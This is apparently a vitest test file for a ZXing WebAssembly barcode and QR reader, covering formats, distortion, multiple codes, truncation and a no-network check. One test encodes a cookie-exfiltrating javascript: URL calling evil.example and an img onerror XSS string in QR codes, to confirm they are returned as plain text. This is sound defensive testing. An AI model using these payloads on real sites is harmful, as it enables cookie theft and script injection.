import { createRequire } from 'node:module'
import { dirname, join } from 'node:path'
import sharp from 'sharp'
import { afterEach, describe, expect, test, vi } from 'vitest'
import { ZXING_WASM_VERSION } from 'zxing-wasm/reader'
import type { Raster } from '../../../../lambdas/analysis/raster.ts'
import { codeReaderKind, createZxingCodeReader } from '../../../../lambdas/vision/codes/zxing-code-reader.ts'
import { createOnnxModels } from '../../../../lambdas/vision/onnx/onnx-models.ts'
import { pictureOf } from '../../../../lambdas/vision/onnx/picture.ts'
import type { Quad } from '../../../../lambdas/vision/text/quad.ts'
import manifest from '../../../../layers/models/manifest.json' with { type: 'json' }
import { drawCode } from '../../../support/codes/draw-code.ts'
import { cornersAt, paintCode } from '../../../support/codes/paint-code.ts'
import { drawRaster } from '../../analysis/support/photos.ts'

const entry = manifest.models.find(({ kind }) => kind === codeReaderKind)!
const wasm = createRequire(import.meta.url).resolve('zxing-wasm/reader/zxing_reader.wasm')

/** A wall with a lamp's light, in the sizes that vision gets. */
const wall = (widthPx = 1024, heightPx = 768): Raster =>
  drawRaster(widthPx, heightPx, (x, y) => {
    const light = 110 + 60 * Math.cos(x / 210) * Math.sin(y / 170) + ((x * 31 + y * 17) % 23)
    return [light, light * 0.9, light * 0.8]
  })

const url = 'https://example.org/menu/table-7?lang=en'
const inMiddle = (widthPx: number, heightPx: number, look: { turnedDegrees?: number; tilt?: number } = {}) =>
  cornersAt({ x: 512, y: 384 }, { widthPx, heightPx, ...look })

async function blurred(photo: Raster, sigmaPx: number): Promise<Raster> {
  const raw = { width: photo.widthPx, height: photo.heightPx, channels: 3 } as const
  return { ...photo, data: await sharp(photo.data, { raw }).blur(sigmaPx).raw().toBuffer() }
}

describe('reading codes', () => {
  // The manifest of the repository; the file is that of the installed library.
  const models = { ...createOnnxModels({ directory: 'layers/models' }), pathOf: () => wasm }
  const read = createZxingCodeReader(models, { costOf: (durationMs) => durationMs / 1e6 })
  const codesIn = async (photo: Raster) => (await read(pictureOf(photo))).findings.codes

  afterEach(() => void vi.unstubAllGlobals())

  /** A code, painted in the middle of the wall. */
  async function photoWith(
    content: string | Uint8Array,
    {
      format = 'QRCode',
      corners,
      ink,
    }: { format?: string; corners?: Quad; ink?: { dark: number; light: number } } = {},
  ) {
    const photo = wall()
    const code = await drawCode(content, { format: format as never })
    const widthPx = format === 'QRCode' ? 200 : 360
    paintCode(photo, code, corners ?? inMiddle(widthPx, (widthPx * code.heightPx) / code.widthPx), ink)
    return photo
  }

  test('tells kind, content, place and source', async () => {
    const { findings, source } = await read(pictureOf(await photoWith(url)))
    expect(findings).toMatchObject({ codes: [{ format: 'qr_code', text: url }] })
    const { box, polygon } = findings.codes[0]!
    // The code is 200 px wide with its margin of four modules on each side; it has 33 modules.
    expect(box.left).toBeCloseTo((512 - (200 * 33) / 41 / 2) / 1024, 2)
    expect(box.width).toBeCloseTo((200 * 33) / 41 / 1024, 2)
    expect(polygon[0]).toEqual({ x: box.left, y: box.top })
    expect(source).toMatchObject({
      provider: 'onnx',
      models: [{ name: entry.name, version: entry.version }],
      parameters: { ...entry.input, effort: 'normal' },
    })
    expect(source.costUsd).toBeCloseTo(source.durationMs / 1e6, 12)
  })

  test.each([
    ['Aztec', 'aztec', 'boarding pass'],
    ['DataMatrix', 'data_matrix', 'part 12345'],
    ['PDF417', 'pdf417', 'one line\nand another'],
    ['EAN13', 'ean_13', '4006381333931'],
    ['EAN8', 'ean_8', '96385074'],
    ['UPCA', 'upc_a', '036000291452'],
    ['Code128', 'code_128', 'ABC-123'],
    ['Code39', 'code_39', 'CODE39'],
    ['Code93', 'code_93', 'CODE93'],
    ['Codabar', 'codabar', 'A1234B'],
    ['ITF', 'itf', '12345678'],
  ])('reads %s', async (format, named, content) => {
    expect(await codesIn(await photoWith(content, { format }))).toMatchObject([
      { format: named, text: content },
    ])
  })

  test.each([
    ['turned by 37 degrees', inMiddle(200, 200, { turnedDegrees: 37 })],
    ['upside down', inMiddle(200, 200, { turnedDegrees: 180 })],
    ['tilted', inMiddle(220, 220, { tilt: 0.35, turnedDegrees: 12 })],
    ['small', inMiddle(90, 90)],
  ])('reads a code that is %s', async (_look, corners) => {
    expect(await codesIn(await photoWith(url, { corners }))).toMatchObject([{ text: url }])
  })

  test('reads a code that is blurred, or inverted', async () => {
    expect(await codesIn(await blurred(await photoWith(url), 1.5))).toMatchObject([{ text: url }])
    expect(await codesIn(await photoWith(url, { ink: { dark: 235, light: 20 } }))).toMatchObject([
      { text: url },
    ])
  })

  test('reads several at once, and the same content at two places', async () => {
    const photo = wall()
    const [qr, bars] = [await drawCode(url), await drawCode('4006381333931', { format: 'EAN13' })]
    paintCode(photo, qr, cornersAt({ x: 200, y: 200 }, { widthPx: 180, heightPx: 180 }))
    paintCode(photo, bars, cornersAt({ x: 700, y: 220 }, { widthPx: 320, heightPx: 150 }))
    paintCode(photo, qr, cornersAt({ x: 500, y: 580 }, { widthPx: 180, heightPx: 180 }))
    const codes = await codesIn(photo)
    expect(codes.map(({ format, text }) => [format, text])).toEqual([
      ['qr_code', url],
      ['ean_13', '4006381333931'],
      ['qr_code', url],
    ])
  })

  test('finds none where there is none', async () => {
    expect(await codesIn(wall())).toEqual([])
    expect(await codesIn(drawRaster(3, 2, () => [255, 255, 255]))).toEqual([])
  })

  test('keeps hostile content as text: links, markup, bytes, and only the beginning of a long one', async () => {
    const script = 'javascript:fetch("//evil.example/?"+document.cookie)'
    expect(await codesIn(await photoWith(script))).toMatchObject([{ text: script }])
    expect(await codesIn(await photoWith('<img src=x onerror=alert(1)>'))).toMatchObject([
      { text: '<img src=x onerror=alert(1)>' },
    ])
    const bytes = Uint8Array.of(0, 1, 2, 255, 254, 128, 7)
    const [binary] = await codesIn(await photoWith(bytes))
    expect(binary!.text).toMatch(/^<NUL><SOH><STX>/)
    const long = `https://example.org/?q=${'long'.repeat(720)}`
    const [cut] = await codesIn(await photoWith(long, { corners: inMiddle(740, 740) }))
    expect(cut).toMatchObject({ text: long.slice(0, 1000), truncated: true })
  })

  test('tells when there are more codes than are kept', async () => {
    const photo = wall(1300, 1300)
    for (let at = 0; at < 81; at++) {
      const code = await drawCode(`n${at}`)
      const middle = { x: 72 + (at % 9) * 144, y: 72 + Math.floor(at / 9) * 144 }
      paintCode(photo, code, cornersAt(middle, { widthPx: 120, heightPx: 120 }))
    }
    const { findings } = await read(pictureOf(photo))
    expect(findings.truncated).toBe(true)
    expect(findings.codes).toHaveLength(entry.input.maxCodes as number)
  })

  test('looks at the detailed picture where there is one, and less hard with a low effort', async () => {
    const detail = await photoWith(url)
    const { findings } = await read(pictureOf({ ...wall(100, 75), detail }))
    expect(findings.codes).toMatchObject([{ text: url }])
    const huge = await sharp(detail.data, { raw: { width: 1024, height: 768, channels: 3 } })
      .resize(4096, 3072)
      .raw()
      .toBuffer()
    const shrunk = await read(
      pictureOf({ ...wall(100, 75), detail: { data: huge, widthPx: 4096, heightPx: 3072, channels: 3 } }),
    )
    expect(shrunk.findings.codes[0]!.box.left).toBeCloseTo(findings.codes[0]!.box.left, 2)
    expect((await read(pictureOf(detail, 'low'))).source.parameters).toMatchObject({ effort: 'low' })
  })

  test('fetches nothing', async () => {
    const fetched = vi.fn()
    vi.stubGlobal('fetch', fetched)
    const fresh = createZxingCodeReader(models, { costOf: () => 0 })
    expect((await fresh(pictureOf(await photoWith(url)))).findings.codes).toHaveLength(1)
    expect(fetched).not.toHaveBeenCalled()
  })

  test('tries again after its file could not be read', async () => {
    let file = join(dirname(wasm), 'missing.wasm')
    const fresh = createZxingCodeReader({ ...models, pathOf: () => file }, { costOf: () => 0 })
    const picture = pictureOf(await photoWith(url))
    await expect(fresh(picture)).rejects.toThrow('ENOENT')
    file = wasm
    expect((await fresh(picture)).findings.codes).toHaveLength(1)
  })

  test('ships the WebAssembly of the version that the code calls', () => {
    expect(entry.version).toBe(ZXING_WASM_VERSION)
    expect(entry.files[0]!.source).toMatchObject({ package: 'zxing-wasm', version: ZXING_WASM_VERSION })
  })
})
